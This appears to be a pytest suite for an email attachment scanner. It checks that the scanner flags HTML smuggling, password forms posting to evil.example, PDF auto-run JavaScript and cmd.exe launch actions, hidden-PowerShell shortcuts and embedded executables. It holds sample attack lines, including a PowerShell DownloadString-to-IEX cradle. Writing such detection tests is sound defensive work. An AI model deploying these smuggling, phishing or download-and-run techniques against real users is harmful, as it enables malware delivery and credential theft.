"""Pages, PDFs, pictures, shortcuts, notebooks and messages, and what every look owes."""

from __future__ import annotations

import ast
import base64
import re
from pathlib import Path

import pytest

import gatepost.files
from file_samples import (
    PROGRAM,
    code_in_letters,
    code_picture,
    compound,
    notebook,
    outlook_item,
    pdf,
    shortcut,
    winmail,
    zipped,
)
from gatepost.files.facts import FACTS
from gatepost.files.inspect import READERS, FileLimits, inspect_file, warm_up
from gatepost.files.kinds import KINDS
from gatepost.files.textqr import qr_in_text
from gatepost.mail.filereport import FileReport

URL = "https://evil.example/qr"


def look(octets: bytes, name: str, declared: str = "") -> list[FileReport]:
    return inspect_file(name, declared, octets, 1, passwords=(), limits=FileLimits(), scratch=None)


def facts(report: FileReport) -> dict[str, str]:
    return {fact.name: fact.text for fact in report.facts}


def test_every_fact_is_in_the_list() -> None:
    used = set()
    for file in Path(gatepost.files.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "fact"
            ):
                first = node.args[0]
                if isinstance(first, ast.Constant):
                    used.add(first.value)
    assert used <= FACTS.keys()
    assert len(used) > 40
    assert READERS.keys() <= KINDS.keys()


def test_warming_up_harms_nobody() -> None:
    warm_up()


class TestPages:
    def test_a_page_that_builds_an_archive(self) -> None:
        packed = base64.b64encode(
            zipped({"invoice.js": b"new ActiveXObject('WScript.Shell').Run('calc')"})
        ).decode()
        page = (
            f"<html><script>var b=new Blob([Uint8Array.from(atob('{packed}'),c=>c.charCodeAt(0))]);var a=document.createElement('a');"
            "a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script>Please wait</html>"
        )
        reports = look(page.encode(), "invoice.html", "text/html")
        assert {"html-smuggling", "html-smuggled-file"} <= facts(reports[0]).keys()
        assert [report.kind for report in reports] == ["html", "zip", "javascript"]
        assert reports[1].octets is not None
        assert reports[0].text == "Please wait"

    def test_a_link_that_saves_a_program(self) -> None:
        page = (
            b"<a download='x.exe' href='data:application/octet-stream;base64,"
            + base64.b64encode(PROGRAM)
            + b"'>x</a>"
        )
        reports = look(page, "a.html")
        assert "html-smuggling" in facts(reports[0])
        assert (reports[1].name, reports[1].kind) == ("x.exe", "pe")

    def test_a_form_that_sends_a_password_elsewhere(self) -> None:
        page = b"<html><form action='https://evil.example/p.php'><input name=u type=email><input type=PassWord></form></html>"
        report = look(page, "login.html")[0]
        assert {"password-form", "form-elsewhere"} <= facts(report).keys()
        assert "https://evil.example/p.php" in report.links

    def test_script_that_sends_what_is_filled_in(self) -> None:
        page = b"<form onsubmit='f()'><input type=password></form><script>fetch('https://api.telegram.org/bot1/x')</script>"
        assert "form-elsewhere" in facts(look(page, "a.htm")[0])

    @pytest.mark.parametrize(
        "page",
        [
            b"<html><meta http-equiv='Refresh' content='0; URL=https://evil.example/qr'>",
            b"<html><script>window.location.href='https://evil.example/qr'</script>",
        ],
    )
    def test_where_it_leads_on(self, page: bytes) -> None:
        report = look(page, "a.html")[0]
        assert "meta-refresh" in facts(report)
        assert URL in report.links

    def test_script_nobody_can_read(self) -> None:
        assert "obfuscated-script" in facts(
            look(b"<html><script>document.write(unescape('%3Cp%3E'))</script>", "a.html")[0]
        )

    def test_a_harmless_page_says_nothing(self) -> None:
        page = b"<html><head><title>Report</title></head><body><h1>Report</h1><a href='https://a.example/'>x</a><img src='cid:1'></body>"
        report = look(page, "a.html", "text/html")[0]
        assert facts(report) == {}
        assert report.links == ("https://a.example/",)

    def test_pictures_that_are_pages(self) -> None:
        drawn = b"<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[location='https://evil.example/qr']]></script><foreignObject/></svg>"
        told = facts(look(drawn, "a.svg")[0])
        assert {"script", "foreign-object"} <= told.keys()
        assert (
            facts(look(b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", "a.svg")[0]) == {}
        )

    def test_script_files(self) -> None:
        report = look(b"(New-Object Net.WebClient).DownloadString('https://evil.example/qr') | IEX", "a.ps1")[
            0
        ]
        assert "suspicious-command" in facts(report)
        assert report.links == (URL,)


class TestPdf:
    def test_a_plain_one(self) -> None:
        link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example/x)>>>>]"
        report = look(pdf(page=link), "a.pdf", "application/pdf")[0]
        assert facts(report) == {}
        assert report.links == ("https://a.example/x",)
        assert "Hello there" in report.text

    @pytest.mark.parametrize(
        ("catalog", "expected"),
        [
            (
                b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://evil.example/qr'\\))>>",
                {"pdf-javascript", "pdf-open-action"},
            ),
            (b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", {"pdf-launch", "pdf-open-action"}),
            (
                b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>",
                {"pdf-javascript"},
            ),
            (b"/#4aavaScript 9 0 R", {"pdf-javascript"}),
            (b"/AcroForm<</XFA(x)>>", {"pdf-xfa"}),
            (b"/AA<</WC<</S/SubmitForm/F(https://evil.example/qr)>>>>", {"pdf-form", "pdf-open-action"}),
        ],
    )
    def test_what_it_does(self, catalog: bytes, expected: set[str]) -> None:
        assert expected <= facts(look(pdf(catalog=catalog), "a.pdf")[0]).keys()

    def test_going_to_a_page_on_opening_is_usual(self) -> None:
        assert facts(look(pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), "a.pdf")[0]) == {}

    def test_embedded_files(self) -> None:
        stream = b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(PROGRAM), PROGRAM)
        catalog = b"/Names<</EmbeddedFiles<</Names[(a)<</F(evil.exe)/EF<</F 6 0 R>>>>]>>>>"
        reports = look(pdf(stream, catalog=catalog), "a.pdf")
        assert "pdf-embedded-file" in facts(reports[0])
        assert [(report.name, report.kind) for report in reports[1:]] == [("evil.exe", "pe")]
        assert reports[1].octets == PROGRAM

    def test_one_file_for_each_system(self) -> None:
        streams = [
            b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(one), one)
            for one in (b"harmless", PROGRAM)
        ]
        catalog = b"/Names<</EmbeddedFiles<</Names[(a)<</F(a.txt)/EF<</UF 6 0 R/F 7 0 R>>>>]>>>>"
        assert [report.kind for report in look(pdf(*streams, catalog=catalog), "a.pdf")[1:]] == ["text", "pe"]

    def test_a_code_on_a_page(self) -> None:
        import zxingcpp
        from PIL import Image

        picture = Image.fromarray(
            zxingcpp.create_barcode(URL, zxingcpp.BarcodeFormat.QRCode).to_image(scale=2)
        )
        data = picture.tobytes()
        image = b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8/Length %d>>stream\n%s\nendstream" % (
            *picture.size, len(data), data,
        )  # fmt: skip
        octets = pdf(image, page=b"", content=b"q 150 0 0 150 20 20 cm /I Do Q").replace(
            b"/Resources<<", b"/Resources<</XObject<</I 6 0 R>>", 1
        )
        report = look(octets, "a.pdf")[0]
        assert "qr-code" in facts(report)
        assert URL in report.links

    @pytest.mark.parametrize("end", [9, 60, 200, 500])
    def test_a_damaged_one_is_still_searched(self, end: int) -> None:
        octets = (
            b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(x)>>/URI(https://evil.example/qr)>>" + pdf()
        )
        report = look(octets[:end], "a.pdf")[0]
        assert facts(report)


class TestPictures:
    @pytest.mark.parametrize("form", ["PNG", "GIF", "BMP", "TIFF", "WEBP"])
    @pytest.mark.parametrize("kind", ["QRCode", "Aztec", "DataMatrix"])
    def test_codes(self, form: str, kind: str) -> None:
        report = look(code_picture(URL, kind=kind, form=form), "a")[0]
        assert URL in facts(report)["qr-code"]
        assert report.links == (URL,)

    def test_too_many_pixels_are_not_decoded(self) -> None:
        octets = code_picture(URL)
        huge = octets[:16] + (60_000).to_bytes(4, "big") * 2 + octets[24:]
        assert facts(look(huge, "a.png")[0]).keys() & {"bomb", "failed"}

    def test_a_broken_picture(self) -> None:
        assert "failed" in facts(look(code_picture(URL)[:60], "a.png")[0])

    @pytest.mark.parametrize("half", [False, True])
    def test_codes_drawn_with_letters(self, half: bool) -> None:
        drawn = f"Dear all,\n\n{code_in_letters(URL, half=half)}\n\nBest"
        assert qr_in_text(drawn) == [URL]
        report = look(drawn.encode(), "a.txt")[0]
        assert "text-qr" in facts(report)
        assert URL in report.links

    def test_letters_that_draw_nothing(self) -> None:
        assert qr_in_text("██ 40 % done\n" * 30) == []
        assert qr_in_text("no blocks here") == []


class TestShortcuts:
    def test_a_command_line(self) -> None:
        report = look(
            shortcut(
                "C:\\Windows\\System32\\cmd.exe",
                " " * 300 + "/c powershell -w hidden https://evil.example/qr",
            ),
            "a.lnk",
        )[0]
        told = facts(report)
        assert "C:\\Windows\\System32\\cmd.exe /c powershell" in told["command-line"]
        assert "suspicious-command" in told
        assert report.links == (URL,)

    def test_internet_shortcuts(self) -> None:
        report = look(
            b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\nIconFile=\\\\evil.example\\x.ico\r\n",
            "a.url",
        )[0]
        assert "shortcut-target" in facts(report)
        assert report.links == ("file://evil.example/share/x.exe", "\\\\evil.example\\x.ico")

    def test_remote_desktop(self) -> None:
        assert (
            "evil.example"
            in facts(look(b"screen mode id:i:2\r\nfull address:s:evil.example:3389\r\n", "a.rdp")[0])[
                "remote-desktop"
            ]
        )

    def test_files_in_a_notebook(self) -> None:
        reports = look(notebook(code_picture("x"), b"new ActiveXObject('WScript.Shell')", PROGRAM), "a.one")
        assert [report.kind for report in reports] == ["onenote", "png", "javascript", "pe"]
        assert "onenote-file" in facts(reports[0])


class TestMessages:
    def test_a_mail_in_an_archive(self) -> None:
        mail = (
            b'From: a@b.example\r\nSubject: Bill\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name="x.exe"\r\n'
            b'Content-Disposition: attachment; filename="x.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + base64.encodebytes(PROGRAM)
        )
        reports = look(zipped({"a.eml": mail}), "a.zip")
        assert reports[1].kind == "eml"
        assert "Bill" in reports[1].text
        assert reports[2].kind == "pe"
        assert reports[2].octets == PROGRAM

    def test_an_outlook_item(self) -> None:
        reports = look(outlook_item("Bill", "See https://evil.example/qr", {"x.pdf.exe": PROGRAM}), "a.msg")
        assert reports[0].links == (URL,)
        assert "Bill" in reports[0].text
        assert (reports[1].name, reports[1].kind) == ("x.pdf.exe", "pe")

    def test_winmail(self) -> None:
        reports = look(winmail("x.exe", PROGRAM), "winmail.dat")
        assert [(report.name, report.kind) for report in reports[1:]] == [("x.exe", "pe")]

    def test_a_calendar(self) -> None:
        packed = base64.b64encode(PROGRAM).decode()
        entry = f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nDESCRIPTION:Join https://evil.exam\r\n ple/qr\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=x.exe:{packed}\r\nEND:VEVENT\r\n"
        reports = look(entry.encode(), "a.ics")
        assert reports[0].links == (URL,)
        assert "Meeting" in reports[0].text
        assert (reports[1].name, reports[1].kind) == ("x.exe", "pe")

    def test_uuencoded_text(self) -> None:
        import binascii

        body = b"".join(binascii.b2a_uu(PROGRAM[n : n + 45]) for n in range(0, len(PROGRAM), 45))
        reports = look(b"begin 644 x.exe\n" + body + b"`\nend\n", "a.uue")
        assert [(report.name, report.kind, report.octets) for report in reports[1:]] == [
            ("x.exe", "pe", PROGRAM)
        ]


def test_what_a_report_says_is_printable() -> None:
    name = "a\u202e\x1b[31m\r\n.zip"
    for report in look(zipped({"\x1b]0;x\x07.txt": b"x", "b\r\nc.exe": PROGRAM}), name):
        assert report.shown.isprintable()
        assert all(fact.text.isprintable() for fact in report.facts)


@pytest.mark.parametrize("kind", sorted(READERS))
def test_no_reader_lets_an_error_out(kind: str) -> None:
    """Octets that only begin like a kind."""
    for extension in sorted(KINDS[kind].extensions)[:3]:
        for octets in (b"", b"\0", b"<", b"PK\3\4" + bytes(50), compound({"x": b"y"}), bytes(range(256)) * 4):
            reports = look(octets, f"a.{extension}")
            assert reports[0].path == (f"a.{extension}",)
    assert re.fullmatch(r"[a-z0-9-]+", kind)
